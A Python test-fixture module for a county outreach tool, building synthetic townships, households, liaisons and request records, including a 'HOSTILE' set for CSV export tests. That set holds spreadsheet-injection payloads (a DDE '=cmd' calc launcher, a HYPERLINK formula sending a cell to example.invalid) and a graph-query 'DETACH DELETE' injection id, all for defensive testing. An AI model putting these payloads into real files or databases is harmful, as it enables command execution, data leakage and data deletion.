"""Counties written by hand for the tests that need a case the tiny county lacks.

``HOSTILE``: one record of every kind whose ids and texts start with every spreadsheet formula
trigger (CSV injection, the Chinese headers). ``REQUEST_COUNTY``: a small county that holds
every case the requests definitions name (``analysis/test_requests.py`` lists them), written
to CSV files by ``write_county``.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

DDE = "=cmd|' /C calc'!A0"

# one record of every kind, with an id or a text starting with every trigger in every column
# that carries free text: ids (and so the references), names, addresses, requests; a phone
# has a phone number's shape, so of the triggers only '+' (+86) can start one
HOSTILE: dict[str, list[dict[str, Any]]] = {
    "townships": [{"id": "=T1", "name": DDE}],
    "villages": [{"id": "+V1", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "township_id": "=T1",
                  "needs_pairing": True}],
    "organizations": [{"id": "-O1", "name": "\t=1+1", "kind": "committee", "level": "county",
                       "parent_id": None, "township_id": "=T1", "village_id": None}],
    "units": [{"id": "@U1", "name": "'=1+1", "sector": "agency", "organization_id": "-O1"}],
    "people": [
        {"id": "=C1", "name": "-2+3", "roles": ["committee_member"], "status": "active",
         "inactive_since": None, "hardship": False, "organization_id": "-O1",
         "township_id": None, "village_id": None, "phone": "+86 139 0000 0001"},
        {"id": "''D1", "name": "''", "roles": ["delegate"], "status": "active",
         "inactive_since": None, "hardship": True, "organization_id": None,
         "township_id": None, "village_id": "+V1", "phone": "+86-139-0000-0002"},
        {"id": "'M1", "name": '\r=HYPERLINK("http://example.invalid/?"&A1,"x")', "roles": [],
         "status": "active", "inactive_since": None, "hardship": False, "organization_id": None,
         "township_id": None, "village_id": "+V1", "phone": "+8613900000003"},
        {"id": "P'}) DETACH DELETE (n) //", "name": "v\x0btab\x01 _x000D_ x005F_", "roles": [],
         "status": "active", "inactive_since": None, "hardship": False,
         "organization_id": None, "township_id": None, "village_id": "+V1",
         "phone": "0571-8888123转12"},
    ],
    "households": [
        {"id": "+H1", "head_name": "=1+1", "village_id": "+V1", "categories": ["poor"],
         "size": 3, "status": "active", "inactive_since": None, "phone": "+8613800000000",
         "address": "双宝村1号\r=cmd|' /C calc'!A0"},  # a bare CR must not start a new row
        {"id": "'H2", "head_name": "'", "village_id": "+V1", "categories": [], "size": None,
         "status": "active", "inactive_since": None, "phone": None, "address": "'abc"},
    ],
    "liaisons": [
        {"kind": "committee_member-delegate", "from_id": "=C1", "to_id": "''D1",
         "since": None, "until": None},
        {"kind": "delegate-member", "from_id": "''D1", "to_id": "'M1", "since": None,
         "until": None},
        {"kind": "member-household", "from_id": "'M1", "to_id": "+H1", "since": None,
         "until": None},
        {"kind": "member-household", "from_id": "'M1", "to_id": "'H2", "since": None,
         "until": None},
    ],
    "pairings": [{"unit_id": "@U1", "village_id": "+V1", "since": None, "until": None}],
    "supports": [{"person_id": "=C1", "household_id": "+H1", "since": None, "until": None}],
    "contacts": [{"person_id": "'M1", "household_id": "+H1", "date": "2026-06-01",
                  "channel": "visit", "request": DDE, "resolved": False}],
}


# -- the requests county ---------------------------------------------------------------------

REQUEST_COUNTY: dict[str, list[list[str]]] = {
    "townships": [["id", "name"], ["T1", "柳树镇"], ["T2", "林口镇"]],
    "villages": [["id", "name", "township_id"], ["V1", "双宝村", "T1"], ["V2", "小盘道村", "T2"]],
    "people": [
        ["id", "name", "roles", "status", "inactive_since", "township_id"],
        ["C1", "李军秀", "committee_member", "", "", ""],
        ["C2", "张志军", "committee_member", "inactive", "2026-05-01", "T1"],
        ["D1", "陈金兰", "delegate", "", "", "T1"],
        ["D2", "王建国", "delegate", "inactive", "2026-06-10", "T1"],
        ["D3", "杨强春", "delegate", "", "", "T2"],
        ["M1", "吴凤金", "", "", "", "T1"],
        ["M2", "赵丽", "", "", "", "T1"],
        ["M3", "孙伟", "", "inactive", "2026-05-20", "T1"],
        ["M4", "周梅", "", "", "", "T2"],
        ["M5", "郑红", "", "", "", "T1"],
        ["K1", "周文霞", "cadre", "", "", "T1"],
        ["X1", "钱多", "", "", "", "T1"],
    ],
    "households": [
        ["id", "head_name", "village_id", "categories", "status", "inactive_since", "phone"],
        ["H1", "李山淑", "V1", "military_martyr", "", "", "15800000001"],
        ["H2", "张国强", "V1", "", "", "", "15800000002"],
        ["H3", "刘军秀", "V1", "poor", "", "", "15800000003"],
        ["H4", "陈志军", "V1", "", "", "", "15800000004"],
        ["H5", "黄刚文", "V2", "", "", "", "15800000005"],
        ["H6", "于芝志", "V1", "", "", "", "15800000006"],
        ["H7", "杜海刚", "V1", "", "inactive", "2026-06-20", "15800000007"],
        ["H8", "冯秀英", "V1", "empty_nest_elderly", "", "", "15800000008"],
    ],
    "liaisons": [
        ["kind", "from_id", "to_id", "since", "until"],
        ["committee_member-delegate", "C1", "D1", "2020-01-01", ""],
        ["committee_member-delegate", "C1", "D3", "2020-01-01", ""],
        ["committee_member-delegate", "C2", "D2", "2020-01-01", ""],
        ["delegate-member", "D1", "M1", "2020-01-01", ""],
        ["delegate-member", "D1", "M2", "2020-01-01", ""],
        ["delegate-member", "D2", "M3", "2020-01-01", ""],
        ["delegate-member", "D3", "M4", "2020-01-01", ""],
        ["delegate-member", "D2", "M5", "2020-01-01", ""],
        ["member-household", "M1", "H1", "2020-01-01", "2026-06-15"],  # reassigned …
        ["member-household", "M2", "H1", "2026-06-15", ""],  # … to M2
        ["member-household", "M3", "H2", "2020-01-01", ""],
        ["member-household", "M2", "H3", "", ""],
        ["member-household", "M4", "H5", "2020-01-01", ""],
        ["member-household", "M4", "H6", "2020-01-01", ""],  # a T2 member, a T1 household
        ["member-household", "M1", "H7", "2020-01-01", ""],
        ["member-household", "M5", "H8", "2020-01-01", ""],  # no request; D2 above leaves
    ],
    "supports": [["person_id", "household_id", "since"], ["K1", "H3", "2025-01-01"]],
    "contacts": [
        ["person_id", "household_id", "date", "channel", "request", "resolved"],
        ["M1", "H1", "2026-06-01", "visit", "屋顶漏雨", "false"],
        ["M1", "H1", "2026-06-05", "phone", "屋顶漏雨", "false"],  # a follow-up
        ["M1", "H1", "2026-06-12", "visit", "申请低保", "false"],
        ["X1", "H1", "2026-02-01", "visit", "申请临时救助", "true"],  # resolved on the spot
        ["M1", "H1", "2026-03-03", "visit", "  ", "false"],  # blank: no request
        ["M1", "H1", "2026-03-04", "visit", "", "false"],
        ["X1", "H2", "2026-06-05", "visit", "看病就医", "false"],
        ["M2", "H3", "2026-03-01", "visit", "申请危房改造", "false"],
        ["K1", "H3", "2026-03-20", "visit", "申请危房改造", "true"],  # by the supporting cadre
        ["M2", "H3", "2026-04-01", "visit", " 申请危房改造", "false"],  # raised again
        ["M2", "H3", "2026-04-10", "phone", "申请危房改造", "false"],  # the same day …
        ["D1", "H3", "2026-04-10", "visit", "申请危房改造", "true"],  # … resolved by D1
        ["X1", "H4", "2026-06-01", "visit", "道路泥泞", "false"],  # no chain at all
        ["M4", "H5", "2026-05-01", "visit", "老人无人照料", "false"],
        ["M4", "H6", "2026-06-05", "visit", "孩子助学金", "false"],
        ["M1", "H7", "2026-06-01", "visit", "冬季取暖困难", "false"],  # H7 left on 06-20
        ["M1", "H1", "2026-07-20", "visit", "电线老化", "false"],  # after the dates asked
    ],
}


def write_county(folder: Path, files: dict[str, list[list[str]]] = REQUEST_COUNTY) -> Path:
    """The county ``files`` (the requests county unless told) as CSV files in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in files.items():
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(rows)
    return folder
